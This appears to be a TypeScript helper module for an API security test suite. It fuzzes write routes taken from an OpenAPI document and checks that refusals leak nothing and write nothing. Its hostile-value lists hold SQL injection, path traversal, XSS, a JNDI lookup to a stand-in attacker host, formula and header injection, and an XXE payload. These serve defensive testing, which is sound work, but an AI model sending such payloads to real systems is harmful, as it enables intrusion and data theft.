import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import type { DataSource } from 'typeorm';
import type { Role } from '../../domain/org';

/**
 * What the security suites share: the write routes as the live OpenAPI document describes them,
 * hostile values (injection-, traversal-, pollution- and encoding-shaped, oversized), valid values
 * generated from a route's JSON schema, a raw HTTP call with a hard timeout, and a checksum of every
 * table to prove a rejected request wrote nothing.
 */

// ---------------------------------------------------------------------------------------------
// The live OpenAPI document
// ---------------------------------------------------------------------------------------------

export type JsonSchema = {
  $ref?: string;
  type?: string | string[];
  enum?: unknown[];
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  oneOf?: JsonSchema[];
  anyOf?: JsonSchema[];
  default?: unknown;
};

export type Access = 'public' | 'authenticated' | Role[];

export interface Operation {
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  /** OpenAPI path, e.g. `/api/tasks/{id}/claim`. */
  path: string;
  access: Access;
  pathParams: { name: string; schema: JsonSchema }[];
  queryParams: { name: string; required: boolean; schema: JsonSchema }[];
  /** The JSON body schema, resolved. */
  jsonBody: JsonSchema | null;
  /** Media types of a raw (file) body. */
  rawBody: string[] | null;
  /** The 200 response schema, resolved. */
  okSchema: JsonSchema | null;
}

export interface OpenApiDoc {
  paths: Record<string, Record<string, OpenApiOperation>>;
  components: { schemas: Record<string, JsonSchema> };
}
interface OpenApiOperation {
  'x-access'?: Access;
  parameters?: { name: string; in: 'path' | 'query'; required?: boolean; schema: JsonSchema }[];
  requestBody?: { content: Record<string, { schema: JsonSchema }> };
  responses: Record<string, { content?: Record<string, { schema: JsonSchema }> }>;
}

export async function fetchOpenApi(baseUrl: string): Promise<OpenApiDoc> {
  const res = await fetch(`${baseUrl}/api/openapi.json`);
  if (res.status !== 200) throw new Error(`GET /api/openapi.json: ${res.status}`);
  return (await res.json()) as OpenApiDoc;
}

export function resolveSchema(doc: OpenApiDoc, s: JsonSchema | undefined): JsonSchema | undefined {
  let out = s;
  for (let i = 0; out?.$ref && i < 10; i++) out = doc.components.schemas[out.$ref.split('/').pop()!];
  return out;
}

export function operationsOf(doc: OpenApiDoc): Operation[] {
  const out: Operation[] = [];
  for (const [path, ops] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(ops)) {
      const content = op.requestBody?.content ?? {};
      const json = content['application/json'];
      const params = op.parameters ?? [];
      if (!op['x-access']) throw new Error(`${method.toUpperCase()} ${path} documents no x-access`);
      out.push({
        method: method.toUpperCase() as Operation['method'],
        path,
        access: op['x-access'],
        pathParams: params.filter((p) => p.in === 'path').map((p) => ({ name: p.name, schema: resolveSchema(doc, p.schema)! })),
        queryParams: params.filter((p) => p.in === 'query').map((p) => ({ name: p.name, required: !!p.required, schema: resolveSchema(doc, p.schema)! })),
        jsonBody: json ? resolveSchema(doc, json.schema)! : null,
        rawBody: !json && Object.keys(content).length ? Object.keys(content) : null,
        okSchema: resolveSchema(doc, op.responses['200']?.content?.['application/json']?.schema) ?? null,
      });
    }
  }
  return out;
}

/** POST routes that only read (the auditor may call them): the Temporal UI's codec decoding payloads for display. */
export const READS_BY_POST = new Set(['POST /api/temporal/codec/decode']);
export const isWrite = (op: Operation) => op.method !== 'GET' && !READS_BY_POST.has(`${op.method.toUpperCase()} ${op.path}`);
export const label = (op: Operation) => `${op.method} ${op.path}`;

/** The URL of an operation with its path parameters filled in (values are encoded unless `raw`). */
export function urlOf(op: Operation, params: Record<string, string>, query: Record<string, string> = {}, raw = false): string {
  const path = op.path.replace(/\{(\w+)\}/g, (_, name: string) => (raw ? params[name] : encodeURIComponent(params[name])));
  const qs = Object.entries(query)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`)
    .join('&');
  return qs ? `${path}?${qs}` : path;
}

// ---------------------------------------------------------------------------------------------
// Hostile values
// ---------------------------------------------------------------------------------------------

/** Strings an attacker sends: SQL, NoSQL, path traversal, markup, template, header and encoding tricks, number-ish text. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1' /*",
  '"; DROP TABLE users; --',
  "1'; SELECT SLEEP(10); --",
  "' UNION SELECT password_hash, username FROM users --",
  "admin'--",
  '%',
  '_',
  '%_%',
  '!',
  '\\',
  "\\'",
  '{"$gt": ""}',
  '{"$ne": null}',
  '$where',
  '../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.png',
  '....//....//etc/passwd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  '\u202egnp.exe',
  '\r\nSet-Cookie: session=evil',
  '💥🔥'.repeat(20),
  '   ',
  '',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '-1e309',
  '9007199254740993',
  '0x0',
  '0b1',
  '1.5',
  '-1',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'prototype',
  'RiskAssessmentMonthly:',
  'AssessmentCycle:monthly:',
  'Hazard:',
  'ImprovementPlan:\\',
  "ImprovementPlan:' OR WorkflowType != '",
  "' OR TaskQueue != '",
  'a'.repeat(257),
  'A'.repeat(4000),
];

/** Path segments sent as-is (already percent-encoded): broken UTF-8, NUL, overlong dots, bare percent signs. */
export const RAW_PATH_SEGMENTS: readonly string[] = [
  '%ED%A0%80',
  '%FF%FE',
  '%C0%AE%C0%AE%2F',
  '%00',
  '%',
  '%25',
  '%E0%A4%A',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e',
  'x%0d%0aSet-Cookie:%20a=b',
];

/** Fields the server sets itself, never a request body: every write refuses them. */
export const PROTECTED_FIELDS: readonly string[] = ['id', 'roles', 'status', 'createdBy', 'escalationLevel', 'publishedAt'];

/** Keys that pollute prototypes or smuggle operators and protected fields. */
export const HOSTILE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '$gt',
  '$where',
  "' OR 1=1 --",
  'toString',
  ...PROTECTED_FIELDS,
  'isAdmin',
];

const MB = 1024 * 1024;

/** JSON texts of hostile values; built as text so that depth and size cost the client nothing. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS).map((s) => JSON.stringify(s)) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '1e308',
      '-1e308',
      '9007199254740993',
      '-1',
      '0',
      '1.5',
      'true',
      'false',
      'null',
      '[]',
      '{}',
      '{"$gt": ""}',
      '{"$ne": null, "$regex": ".*"}',
      '{"__proto__": {"isAdmin": true, "polluted": "yes"}}',
      '{"constructor": {"prototype": {"polluted": "yes"}}}',
      '{"toString": "x", "valueOf": 1, "hasOwnProperty": null}',
      '["\'; DROP TABLE users; --"]',
      `"${'x'.repeat(900 * 1024)}"`,
      `[${Array.from({ length: 10_000 }, (_, i) => i).join(',')}]`,
      `[${Array.from({ length: 10_000 }, () => '"../../etc/passwd"').join(',')}]`,
      `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
      `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
    ),
  },
);

/** A request body that no route may accept: malformed, wrong-typed, oversized, or an object with at least one key no schema has. */
export function hostileBody(op: Operation): fc.Arbitrary<{ text: string; contentType: string; note: string }> {
  const props = Object.keys(op.jsonBody?.properties ?? {});
  const json = (text: string, note: string) => ({ text, contentType: 'application/json', note });
  const objectWithExtraKey = fc
    .tuple(
      fc.subarray(props),
      fc.array(hostileJson, { minLength: props.length, maxLength: props.length }),
      fc.constantFrom(...HOSTILE_KEYS.filter((k) => !props.includes(k))),
      hostileJson,
    )
    .map(([keys, values, extra, extraValue]) =>
      json(
        `{${[...keys.map((k, i) => `${JSON.stringify(k)}:${values[i]}`), `${JSON.stringify(extra)}:${extraValue}`].join(',')}}`,
        `object with extra key ${extra}`,
      ),
    );
  return fc.oneof(
    { weight: 5, arbitrary: objectWithExtraKey },
    // Not `{}`: an empty object is a valid body where every field is optional, and "no body" where there is none.
    { weight: 2, arbitrary: hostileJson.filter((t) => t !== '{}').map((t) => json(t, 'a bare JSON value')) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        json('{"a": ', 'truncated JSON'),
        json("{'a': 1}", 'single-quoted JSON'),
        json('{"a": 1,}', 'trailing comma'),
        json('\u0000\u0001\u0002', 'control bytes'),
        json('{"a": "\\ud800"', 'truncated with a lone surrogate'),
        json(`{"a": "${'x'.repeat(MB + 16)}"}`, 'over the 1 MB JSON limit'),
        {
          text: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
          contentType: 'application/json',
          note: 'XML with an external entity as JSON',
        },
        { text: '{"a": 1}', contentType: 'application/json; charset=latin1', note: 'unsupported charset' },
      ),
    },
  );
}

/** Strings for path parameters and query values (URL-sized: the 1 MB cases go in bodies). */
export const hostileParam: fc.Arbitrary<{ value: string; raw: boolean }> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.constantFrom(...HOSTILE_STRINGS.filter((s) => !/[\ud800-\udfff]/.test(s) && s.length > 0)).map((value) => ({ value, raw: false })),
  },
  { weight: 2, arbitrary: fc.constantFrom(...RAW_PATH_SEGMENTS).map((value) => ({ value, raw: true })) },
  { weight: 1, arbitrary: fc.constant({ value: randomUUID(), raw: false }) },
  {
    weight: 1,
    arbitrary: fc
      .string({ unit: 'binary', minLength: 1, maxLength: 40 })
      .filter((s) => s.trim().length > 0 && !/[\ud800-\udfff]/.test(s))
      .map((value) => ({ value, raw: false })),
  },
);

// ---------------------------------------------------------------------------------------------
// Valid values from a schema (with hostile free text)
// ---------------------------------------------------------------------------------------------

/** Values for string patterns the routes use. */
const PATTERN_VALUES: Record<string, () => string> = {
  '^[0-9a-f]{64}$': () => randomUUID().replace(/-/g, '').repeat(2),
  '^([01]\\d|2[0-3]):[0-5]\\d$': () => '07:30',
  '^[A-Za-z0-9][A-Za-z0-9._-]*$': () => `SEC-${randomUUID().slice(0, 8)}`,
  '^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$': () => `sec-${randomUUID()}`,
  '^[\\w.:/-]+$': () => `security/${randomUUID()}`,
  '^[a-z_]+$': () => 'grading',
  '^[A-Za-z0-9][A-Za-z0-9._@-]*$': () => `sec.${randomUUID().slice(0, 8)}`,
  '^\\d{4}-(0[1-9]|1[0-2])$': () => '2026-11',
};

/** Free text: mostly hostile, always within the schema's length bounds. */
function text(s: JsonSchema, pick: () => string): string {
  let v = pick();
  const min = s.minLength ?? 0;
  const max = s.maxLength ?? 10_000;
  if (v.trim().length < Math.max(min, 1)) v = `${v}x${'y'.repeat(min)}`;
  return v.slice(0, max);
}

/**
 * A value that satisfies the JSON schema (as far as JSON Schema can tell: refinements are not in
 * it): every optional property present, free text from `pick` (hostile), ids from `id` (by default
 * random, so they name nothing).
 */
export function validValue(
  doc: OpenApiDoc,
  schema: JsonSchema | undefined,
  pick: () => string,
  id: (key: string) => string = () => randomUUID(),
  key = '',
): unknown {
  const s = resolveSchema(doc, schema);
  if (!s) return null;
  if (s.oneOf?.length || s.anyOf?.length) return validValue(doc, (s.oneOf ?? s.anyOf)![0], pick, id, key);
  if (s.enum?.length) return s.enum[0];
  const types = Array.isArray(s.type) ? s.type.filter((t) => t !== 'null') : s.type ? [s.type] : [];
  const type = types[0] ?? (s.properties ? 'object' : undefined);
  switch (type) {
    case 'string':
      if (s.format === 'uuid') return id(key);
      if (s.format === 'date-time') return new Date(Date.now() + 86_400_000).toISOString();
      if (s.format === 'email') return 'someone@example.com';
      if (s.pattern) return PATTERN_VALUES[s.pattern]?.() ?? text(s, pick);
      return text(s, pick);
    case 'integer':
    case 'number': {
      const lo = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : 1);
      return type === 'integer' ? Math.ceil(lo) : lo;
    }
    case 'boolean':
      return true;
    case 'array':
      return Array.from({ length: Math.max(1, s.minItems ?? 0) }, () => validValue(doc, s.items, pick, id, key));
    case 'object':
      return Object.fromEntries(Object.entries(s.properties ?? {}).map(([k, v]) => [k, validValue(doc, v, pick, id, k)]));
    default:
      return {};
  }
}

// ---------------------------------------------------------------------------------------------
// HTTP and the database
// ---------------------------------------------------------------------------------------------

export interface RawResponse {
  status: number;
  headers: Headers;
  text: string;
  body: { error?: { code?: unknown; message?: unknown; details?: unknown } } | undefined;
  ms: number;
}

/** One request with a hard timeout: a hung request is a failure, not a stuck suite. */
export async function send(
  baseUrl: string,
  method: string,
  url: string,
  opts: { token?: string; body?: string | Buffer; contentType?: string; headers?: Record<string, string>; timeoutMs?: number } = {},
): Promise<RawResponse> {
  const started = Date.now();
  const res = await fetch(baseUrl + url, {
    method,
    headers: {
      ...(opts.token ? { authorization: `Bearer ${opts.token}` } : {}),
      ...(opts.contentType ? { 'content-type': opts.contentType } : {}),
      ...opts.headers,
    },
    body: opts.body as RequestInit['body'],
    signal: AbortSignal.timeout(opts.timeoutMs ?? 15_000),
  });
  const text = await res.text();
  let body: RawResponse['body'];
  try {
    body = text ? JSON.parse(text) : undefined;
  } catch {
    body = undefined;
  }
  return { status: res.status, headers: res.headers, text, body, ms: Date.now() - started };
}

/** What an error body must never contain: stack frames, source paths, driver errors, SQL. */
export const LEAK =
  /\bat [\w.<>]+ \(|\.ts:\d+:\d+|\.js:\d+:\d+|node_modules|QueryFailedError|ER_[A-Z_]{3,}|sqlMessage|sqlState|SQLITE_|\bINSERT INTO\b|\bSELECT .+ FROM `/;

/** Why a response to a request that must be refused is not a proper refusal, or null when it is. */
export function refusalProblem(r: RawResponse): string | null {
  if (r.status < 400 || r.status >= 500) return `status ${r.status}`;
  if (!/application\/json/.test(r.headers.get('content-type') ?? '')) return `status ${r.status} without a JSON body (${r.headers.get('content-type')})`;
  if (typeof r.body?.error?.code !== 'string' || typeof r.body.error.message !== 'string') return `status ${r.status} without error.code/message`;
  if (LEAK.test(r.text)) return `status ${r.status} leaks internals`;
  return null;
}

/** A checksum of every table of the database: equal before and after means nothing was written. */
export async function databaseChecksum(ds: DataSource): Promise<Record<string, string>> {
  const tables: { name: string }[] = await ds.query(
    "SELECT table_name AS name FROM information_schema.tables WHERE table_schema = DATABASE() AND table_type = 'BASE TABLE' ORDER BY table_name",
  );
  const rows: { Table: string; Checksum: string | number | null }[] = await ds.query(`CHECKSUM TABLE ${tables.map((t) => `\`${t.name}\``).join(', ')}`);
  return Object.fromEntries(rows.map((r) => [r.Table.split('.').pop()!, String(r.Checksum)]));
}

export function checksumDiff(before: Record<string, string>, after: Record<string, string>): string[] {
  return [...new Set([...Object.keys(before), ...Object.keys(after)])].filter((t) => before[t] !== after[t]);
}

export async function loginToken(baseUrl: string, username: string, password = 'safeloop-demo'): Promise<string> {
  const r = await send(baseUrl, 'POST', '/api/auth/login', { body: JSON.stringify({ username, password }), contentType: 'application/json' });
  if (r.status !== 200) throw new Error(`login ${username}: ${r.status} ${r.text}`);
  return (r.body as unknown as { token: string }).token;
}
